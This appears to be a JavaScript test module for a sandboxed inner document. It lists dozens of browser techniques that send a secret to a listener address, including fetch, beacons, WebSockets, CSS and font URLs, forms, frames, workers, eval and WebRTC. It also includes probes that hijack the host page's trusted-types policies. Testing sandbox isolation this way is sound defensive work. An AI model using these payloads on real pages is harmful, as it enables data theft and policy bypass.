// Every way we know to carry a secret out of a document. Each runs inside the inner document with an address of the
// listener, and may throw: what counts is what the listener sees.

/** `[name, run(address, host, udpPort)]`; `address` ends where a token can be appended. */
export const ATTEMPTS = {
  fetch: (to) => fetch(to, { mode: "no-cors" }),
  "fetch keepalive": (to) => fetch(to, { mode: "no-cors", method: "POST", body: "x", keepalive: true }),
  XMLHttpRequest: (to) => {
    const request = new XMLHttpRequest();
    request.open("GET", to);
    request.send();
  },
  sendBeacon: (to) => navigator.sendBeacon(to, "x"),
  WebSocket: (to) => new WebSocket(to.replace("http", "ws")),
  EventSource: (to) => new EventSource(to),
  image: (to) => {
    new Image().src = to;
  },
  "image in the document": (to) => {
    const image = document.createElement("img");
    image.srcset = to;
    document.body.append(image);
  },
  "svg image": (to) => {
    const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
    const image = document.createElementNS("http://www.w3.org/2000/svg", "image");
    image.setAttribute("href", to);
    svg.append(image);
    document.body.append(svg);
  },
  script: (to) => {
    const script = document.createElement("script");
    script.src = to;
    document.body.append(script);
  },
  "inline script": (to) => {
    const script = document.createElement("script");
    script.textContent = `new Image().src = ${JSON.stringify(to)}`;
    document.body.append(script);
  },
  "dynamic import": (to) => import(/* @vite-ignore */ to),
  stylesheet: (to) => {
    const link = document.createElement("link");
    link.rel = "stylesheet";
    link.href = to;
    document.head.append(link);
  },
  "style element": (to) => {
    const style = document.createElement("style");
    style.textContent = `@import url("${to}"); body { background-image: url("${to}") }`;
    document.head.append(style);
  },
  "style by script": (to) => {
    document.body.style.backgroundImage = `url("${to}")`;
  },
  "constructed stylesheet": (to) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body { background: url("${to}") } @font-face { font-family: leak; src: url("${to}") } body { font-family: leak }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  },
  font: (to) => new FontFace("leak2", `url("${to}")`).load(),
  form: (to) => {
    const form = document.createElement("form");
    form.action = to;
    document.body.append(form);
    form.submit();
  },
  "form button": (to) => {
    const form = document.createElement("form");
    form.method = "post";
    const button = document.createElement("button");
    button.formAction = to;
    form.append(button);
    document.body.append(form);
    button.click();
  },
  "link click": (to) => {
    const link = document.createElement("a");
    link.href = to;
    document.body.append(link);
    link.click();
  },
  "link to top": (to) => {
    const link = document.createElement("a");
    link.href = to;
    link.target = "_top";
    document.body.append(link);
    link.click();
  },
  "link to a new window": (to) => {
    const link = document.createElement("a");
    link.href = to;
    link.target = "_blank";
    document.body.append(link);
    link.click();
  },
  "link with ping": (to) => {
    const link = document.createElement("a");
    link.href = "#here";
    link.setAttribute("ping", to);
    document.body.append(link);
    link.click();
  },
  "download link": (to) => {
    const link = document.createElement("a");
    link.href = to;
    link.download = "x";
    document.body.append(link);
    link.click();
  },
  "location.href": (to) => {
    location.href = to;
  },
  "location.replace": (to) => location.replace(to),
  "top.location": (to) => {
    top.location = to;
  },
  "parent.location": (to) => {
    parent.location.href = to;
  },
  "window.open": (to) => window.open(to),
  "window.open into self": (to) => window.open(to, "_self"),
  "meta refresh": (to) => {
    const meta = document.createElement("meta");
    meta.httpEquiv = "refresh";
    meta.content = `0;url=${to}`;
    document.head.append(meta);
  },
  "base and relative image": (to) => {
    const base = document.createElement("base");
    base.href = to;
    document.head.append(base);
    new Image().src = "relative";
  },
  iframe: (to) => {
    const frame = document.createElement("iframe");
    frame.src = to;
    document.body.append(frame);
  },
  "fresh frame's fetch": (to) => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    return frame.contentWindow.fetch(to, { mode: "no-cors" });
  },
  "fresh frame's document": (to) => {
    const frame = document.createElement("iframe");
    frame.srcdoc = `<img src="${to}"><script>new Image().src=${JSON.stringify(to)}</script><meta http-equiv="refresh" content="0;url=${to}">`;
    document.body.append(frame);
  },
  "frame of a blob": (to) => {
    const frame = document.createElement("iframe");
    frame.src = URL.createObjectURL(new Blob([`<script>location = ${JSON.stringify(to)}</script><img src="${to}">`], { type: "text/html" }));
    document.body.append(frame);
  },
  object: (to) => {
    const object = document.createElement("object");
    object.data = to;
    document.body.append(object);
  },
  embed: (to) => {
    const embed = document.createElement("embed");
    embed.src = to;
    document.body.append(embed);
  },
  video: (to) => {
    const video = document.createElement("video");
    video.poster = to;
    video.src = to;
    document.body.append(video);
  },
  audio: (to) => new Audio(to).play(),
  "text track": (to) => {
    const video = document.createElement("video");
    const track = document.createElement("track");
    track.src = to;
    track.default = true;
    video.append(track);
    document.body.append(video);
  },
  prefetch: (to) => {
    const link = document.createElement("link");
    link.rel = "prefetch";
    link.href = to;
    document.head.append(link);
  },
  preload: (to) => {
    const link = document.createElement("link");
    link.rel = "preload";
    link.as = "fetch";
    link.href = to;
    document.head.append(link);
  },
  preconnect: (to) => {
    const link = document.createElement("link");
    link.rel = "preconnect";
    link.href = to;
    document.head.append(link);
  },
  "dns-prefetch": (to) => {
    const link = document.createElement("link");
    link.rel = "dns-prefetch";
    link.href = to;
    document.head.append(link);
  },
  modulepreload: (to) => {
    const link = document.createElement("link");
    link.rel = "modulepreload";
    link.href = to;
    document.head.append(link);
  },
  manifest: (to) => {
    const link = document.createElement("link");
    link.rel = "manifest";
    link.href = to;
    document.head.append(link);
  },
  icon: (to) => {
    const link = document.createElement("link");
    link.rel = "icon";
    link.href = to;
    document.head.append(link);
  },
  "speculation rules": (to) => {
    const script = document.createElement("script");
    script.type = "speculationrules";
    script.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [to], eagerness: "immediate" }], prerender: [{ source: "list", urls: [to], eagerness: "immediate" }] });
    document.head.append(script);
  },
  "worker by address": (to) => new Worker(to),
  "worker of a blob": (to) => {
    const text = `fetch(${JSON.stringify(to)}, {mode: "no-cors"}); importScripts(${JSON.stringify(to)})`;
    const address = URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
    try {
      return new Worker(address);
    } catch {
      return new Worker(trustedTypes.createPolicy("leak", { createScriptURL: (it) => it }).createScriptURL(address));
    }
  },
  "worker under the page's own policy": (to) => {
    const text = `fetch(${JSON.stringify(to)}, {mode: "no-cors"}); new WebSocket(${JSON.stringify(to.replace("http", "ws"))}); importScripts(${JSON.stringify(to)})`;
    const address = URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
    return new Worker(trustedTypes.createPolicy("k8senc-worker", { createScriptURL: (it) => it }).createScriptURL(address));
  },
  "shared worker": (to) => new SharedWorker(to),
  "service worker": (to) => navigator.serviceWorker.register(to),
  "markup with a handler": (to) => {
    document.body.insertAdjacentHTML("beforeend", `<img src="x" onerror="fetch('${to}')"><img src="${to}">`);
  },
  eval: (to) => (0, eval)(`fetch(${JSON.stringify(to)})`),
  WebTransport: (to) => new WebTransport(to.replace("http:", "https:")),
  "payment request": (to) => new PaymentRequest([{ supportedMethods: to }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment(),
  "background fetch of a cache": async (to) => (await caches.open("x")).add(to),
  WebRTC: async (_to, stun) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
  },
  "WebRTC of a fresh frame": async (_to, stun) => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    const peer = new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: stun }] });
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
  },
  "WebRTC of a fresh document": (to, stun) => {
    const frame = document.createElement("iframe");
    frame.srcdoc = `<script>const p = new RTCPeerConnection({iceServers: [{urls: ${JSON.stringify(stun)}}]}); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o))</script>`;
    document.body.append(frame);
  },
};

/** What answers in the page itself instead of at the listener. Each returns what leaked, or throws. */
export const HELD = {
  "clipboard without a gesture": async () => {
    await navigator.clipboard.writeText("secret");
    return "wrote to the clipboard";
  },
  localStorage: () => {
    localStorage.setItem("x", "secret");
    return "stored";
  },
  sessionStorage: () => {
    sessionStorage.setItem("x", "secret");
    return "stored";
  },
  indexedDB: () =>
    new Promise((done, failed) => {
      const request = indexedDB.open("x");
      request.onsuccess = () => done("stored");
      request.onerror = () => failed(new Error("refused"));
    }),
  cookie: () => {
    document.cookie = "x=secret";
    if (!document.cookie.includes("secret")) throw new Error("refused");
    return "stored";
  },
  "origin private files": async () => {
    await navigator.storage.getDirectory();
    return "stored";
  },
  "parent's document": () => parent.document.title,
  "a policy of the page taken over": () => {
    const made = ["k8senc-worker", "svelte-trusted-html", "default"].filter((name) => {
      try {
        return trustedTypes.createPolicy(name, { createScriptURL: (it) => it });
      } catch {
        return false;
      }
    });
    if (!made.length) throw new Error("refused");
    return made.join();
  },
  "name of the window kept": () => {
    if (parent === window) throw new Error("no parent");
    parent.name = "secret";
    return "named";
  },
  broadcast: async () => {
    const [one, two] = [new BroadcastChannel("x"), new BroadcastChannel("x")];
    one.close();
    two.close();
    throw new Error("heard by nobody else: an opaque origin is alone");
  },
};
